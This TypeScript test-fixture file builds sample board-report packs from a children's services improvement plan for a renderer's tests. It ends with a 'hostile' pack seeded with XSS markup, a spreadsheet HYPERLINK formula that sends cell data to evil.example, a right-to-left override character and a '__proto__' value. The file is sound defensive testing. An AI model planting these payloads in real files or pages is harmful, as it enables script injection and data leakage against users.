/** Hand-made Board packs for the renderer's tests: one like the sample (with errors), one clean, one hostile. */
import type { BoardPack, ScorecardMeasure, SummaryRow } from '../../../src/core/board/model';
import type { RollupCount } from '../../../src/core/rollup/history';
import { serialFromYmd, yearMonth } from '../../../src/core/calendar';

export const SEP_2016 = yearMonth(2016, 9);
export const AUG_2016 = yearMonth(2016, 8);
const MONTHS = Array.from({ length: 12 }, (_, i) => yearMonth(2016, 4) + i);

function counts(values: ReadonlyArray<number>): Record<RollupCount, number> {
  const keys: RollupCount[] = ['actions', 'blue', 'green', 'amber', 'red', 'grey', 'unknown', 'overdue', 'measures', 'measuresGreen', 'measuresAmber', 'measuresRed', 'measuresNoData'];
  const out = {} as Record<RollupCount, number>;
  keys.forEach((k, i) => {
    out[k] = values[i] ?? 0;
  });
  return out;
}

function summaryRow(theme: string, label: string, now: number[], change: number[] | null): SummaryRow {
  return { theme, label, counts: counts(now), changes: change === null ? null : counts(change) };
}

export function measure(over: Partial<ScorecardMeasure> & { id: string; name: string }): ScorecardMeasure {
  return {
    unit: 'percent',
    polarity: 'higher',
    baseline: 0.6,
    target: 0.75,
    latest: 0.62,
    latestPeriod: SEP_2016,
    rag: 'Red',
    progress: 0.133,
    direction: 'Improving',
    trajectory: 'Behind trajectory',
    comparators: [
      { name: 'England', value: 0.82, gap: -0.2, verdict: 'Worse' },
      { name: 'Statistical neighbours', value: 0.615, gap: 0.005, verdict: 'Similar' },
    ],
    chart: {
      months: MONTHS,
      values: [0.58, 0.6, null, 0.61, 0.6, 0.62, null, null, null, null, null, null],
      target: 0.75,
      trajectory: MONTHS.map((_, i) => 0.6 + ((0.75 - 0.6) * (i + 1)) / 12),
      comparators: [
        { name: 'England', value: 0.82 },
        { name: 'Statistical neighbours', value: 0.615 },
        { name: 'Core cities', value: 0.7 },
      ],
    },
    ...over,
  };
}

export function samplePack(over: Partial<BoardPack> = {}): BoardPack {
  const rows: SummaryRow[] = [
    summaryRow('1', '1. Children are safeguarded', [6, 1, 2, 1, 2, 0, 0, 2, 3, 1, 1, 1, 0], [0, 0, -1, 0, 1, 0, 0, 1, 0, 0, -1, 1, 0]),
    summaryRow('2', '2. Improve outcomes for care leavers', [5, 0, 3, 1, 1, 0, 0, 1, 3, 2, 0, 1, 0], [0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0]),
    summaryRow('All', 'All themes', [11, 1, 5, 2, 3, 0, 0, 3, 6, 3, 1, 2, 0], [0, 0, -1, 0, 1, 0, 0, 1, 0, 0, -1, 1, 0]),
  ];
  return {
    title: 'Bristol Children\'s Services Improvement Plan 2016-17',
    month: SEP_2016,
    asOf: { date: serialFromYmd(2016, 9, 30), source: { kind: 'settings', sheet: 'Settings', cell: 'B5' } },
    madeOn: serialFromYmd(2016, 10, 3),
    cover: {
      errors: 10,
      warnings: 2,
      draft: 'DRAFT: the plan has 10 errors',
      errorRules: [
        { rule: 'due-invalid', title: 'Due date is not a date', severity: 'error', count: 2 },
        { rule: 'overdue-on-track', title: 'Overdue but marked On track', severity: 'error', count: 8 },
      ],
    },
    summary: { previousMonth: AUG_2016, rows },
    exceptions: {
      actions: [
        {
          ref: '1.3', theme: '1', action: 'Audit every child protection plan older than 18 months', lead: 'Jane Smith',
          due: serialFromYmd(2016, 6, 30), dueText: '30/06/2016', daysOverdue: 92, status: 'On track', rag: 'Red',
          update: 'Audit tool agreed; first 20 cases reviewed.', updated: serialFromYmd(2016, 9, 12),
        },
        {
          ref: '2.4', theme: '2', action: 'Pathway plans for all care leavers', lead: 'Sam Jones',
          due: null, dueText: 'Ongoing', daysOverdue: 0, status: 'Off track', rag: 'Red', update: null, updated: null,
        },
      ],
      measures: [
        {
          id: 'CL1', name: 'Care leavers in suitable accommodation', theme: '2', unit: 'percent', polarity: 'higher',
          latest: 0.62, latestPeriod: SEP_2016, target: 0.75, gap: -0.13, trajectory: 'Behind trajectory', direction: 'Improving',
          comparators: [{ name: 'England', value: 0.82, gap: -0.2, verdict: 'Worse' }],
        },
      ],
    },
    moved: {
      previousMonth: AUG_2016,
      items: [
        { type: 'Action', ref: '1.3', name: 'Audit every child protection plan older than 18 months', theme: '1', from: 'Amber', to: 'Red' },
        { type: 'Measure', ref: 'CL1', name: 'Care leavers in suitable accommodation', theme: '2', from: 'Amber', to: 'Red' },
        { type: 'Action', ref: '2.6', name: 'New peer mentoring scheme', theme: '2', from: null, to: 'Green' },
      ],
    },
    scorecard: {
      themes: [
        {
          theme: '1', label: '1. Children are safeguarded',
          measures: [
            measure({ id: 'CP1', name: 'Child protection plans reviewed on time', rag: 'Green', latest: 0.95, target: 0.9 }),
            measure({ id: 'CP2', name: 'Re-referrals within 12 months', unit: 'number', polarity: 'lower', baseline: 420, target: 380, latest: 401, rag: 'Amber',
              comparators: [],
              chart: { months: MONTHS, values: [420, 415, null, 405, 401, 401, null, null, null, null, null, null], target: 380, trajectory: MONTHS.map((_, i) => 420 - (40 * (i + 1)) / 12), comparators: [{ name: 'Core cities', value: 390 }] } }),
          ],
        },
        {
          theme: '2', label: '2. Improve outcomes for care leavers',
          measures: [
            measure({ id: 'CL1', name: 'Care leavers in suitable accommodation' }),
            measure({ id: 'CL4', name: 'Care leavers known to be in touch', polarity: 'context', rag: 'n/a', target: null, progress: null, direction: null, trajectory: null, comparators: [],
              chart: { months: MONTHS, values: MONTHS.map(() => null), target: null, trajectory: null, comparators: [] } }),
          ],
        },
      ],
    },
    leads: {
      leads: [
        { lead: 'Jane Smith', actions: [
          { ref: '1.3', action: 'Audit every child protection plan older than 18 months', due: serialFromYmd(2016, 6, 30), dueText: '30/06/2016', rag: 'Red', daysOverdue: 92, updated: serialFromYmd(2016, 9, 12), stale: false },
          { ref: '1.5', action: 'Refresh the threshold document', due: serialFromYmd(2016, 12, 31), dueText: 'Dec 2016', rag: 'Green', daysOverdue: 0, updated: serialFromYmd(2016, 7, 1), stale: true },
        ] },
        { lead: 'Sam Jones', actions: [
          { ref: '2.4', action: 'Pathway plans for all care leavers', due: null, dueText: 'Ongoing', rag: 'Red', daysOverdue: 0, updated: null, stale: false },
        ] },
      ],
    },
    dataQuality: {
      rules: [
        { rule: 'overdue-on-track', title: 'Overdue but marked On track', severity: 'error', count: 8, examples: [
          { sheet: 'Action plan', cell: 'H7', ref: '1.3', message: 'Action 1.3 was due on 30/06/2016 but is marked On track. Update the status.' },
        ] },
        { rule: 'target-missing', title: 'No numeric target', severity: 'warning', count: 1, examples: [
          { sheet: 'Scorecard', cell: 'H12', ref: 'MA3', message: 'MA3 has no numeric target (TBC).' },
        ] },
      ],
    },
    ...over,
  };
}

/** The same pack with hostile workbook text everywhere text goes. */
export const HOSTILE = {
  markup: '<script>window.__xss=1</script><img src=x onerror="window.__xss=2">',
  formula: '=HYPERLINK("http://evil.example/?q="&A1,"Click me")',
  long: 'W'.repeat(5000),
  rtl: 'خطة التحسين \u202E reversed',
  quotes: `Tom's "plan" & <b>more</b>`,
} as const;

export function hostilePack(): BoardPack {
  const base = samplePack();
  const { markup, formula, long, rtl, quotes } = HOSTILE;
  return {
    ...base,
    title: markup + ' ' + quotes,
    asOf: { date: base.asOf.date, source: { kind: 'settings', sheet: markup, cell: 'B5' } },
    summary: { ...base.summary, rows: base.summary.rows.map((r, i) => ({ ...r, label: i === 0 ? rtl : i === 1 ? long : r.label })) },
    exceptions: {
      actions: base.exceptions.actions.map((a) => ({ ...a, ref: markup, action: long, lead: rtl, status: formula, update: formula + ' ' + long, dueText: markup, due: null })),
      measures: base.exceptions.measures.map((m) => ({ ...m, id: formula, name: long })),
    },
    moved: { ...base.moved, items: base.moved.items.map((i) => ({ ...i, ref: markup, name: long, theme: rtl, from: i.from === null ? null : '__proto__' })) },
    scorecard: {
      themes: base.scorecard.themes.map((t) => ({ ...t, label: markup, measures: t.measures.map((m) => ({ ...m, id: quotes, name: long + rtl })) })),
    },
    leads: { leads: [{ lead: long, actions: base.leads.leads[0].actions.map((a) => ({ ...a, ref: formula, action: markup + long, dueText: rtl, due: null })) }] },
    dataQuality: { rules: base.dataQuality.rules.map((r) => ({ ...r, examples: r.examples.map((e) => ({ ...e, sheet: rtl, ref: markup, message: long })) })) },
  };
}
